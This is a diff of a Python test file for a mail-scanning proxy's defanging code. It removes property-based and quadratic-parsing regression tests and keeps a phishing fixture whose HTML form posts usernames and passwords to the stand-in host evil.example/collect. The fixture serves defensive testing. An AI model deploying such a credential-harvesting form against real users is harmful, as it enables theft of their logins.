@@ -16,14 +16,11 @@ import email.policy
 import quopri
 from email.message import Message
 
-from hypothesis import given
-from hypothesis import strategies as st
 from selectolax.lexbor import LexborHTMLParser
 
 from popproxy.scan import Verdict, apply_action, defang_message
-from popproxy.scan.mime_params import parse_params
 from tests.scan.helpers import build
-from tests.scan.test_defang_tree import _live
+from tests.scan.test_defang_html import _live
 
 PHISH_FORM = (b'<html><body><form action="https://evil.example/collect" method=post>'
               b'<input name=user><input type=password name=pw><input type=submit></form>'
@@ -198,38 +195,3 @@ def test_defang_verdict_leaves_no_live_attachment() -> None:
         assert isinstance(payload, bytes)
         assert _live(payload.decode("utf-8")) == []
     assert PHISH_FORM not in out and b"<script" not in out
-
-
-_PARAM_CHARS = st.text(alphabet=';"\\= aB\t', max_size=40)
-
-
-@given(_PARAM_CHARS)
-def test_linear_parameter_splitter_matches_the_stdlib(value: str) -> None:
-    """mime_params replaces email.message._parseparam (quadratic): same pieces, always."""
-    assert parse_params(value) == _stdlib_parseparam(value)
-
-
-def _stdlib_parseparam(s: str) -> list[str]:
-    """email.message._parseparam of Python 3.11, copied as the reference."""
-    s = ";" + str(s)
-    plist = []
-    while s[:1] == ";":
-        s = s[1:]
-        end = s.find(";")
-        while end > 0 and (s.count('"', 0, end) - s.count('\\"', 0, end)) % 2:
-            end = s.find(";", end + 1)
-        if end < 0:
-            end = len(s)
-        f = s[:end]
-        if "=" in f:
-            i = f.index("=")
-            f = f[:i].strip().lower() + "=" + f[i + 1 :].strip()
-        plist.append(f.strip())
-        s = s[end:]
-    return plist
-
-
-def test_stdlib_get_param_uses_the_linear_splitter() -> None:
-    msg = email.message.Message()
-    msg["Content-Type"] = 'text/html; x="' + ";" * 200_000 + '"; charset=utf-8'
-    assert msg.get_content_charset() == "utf-8"
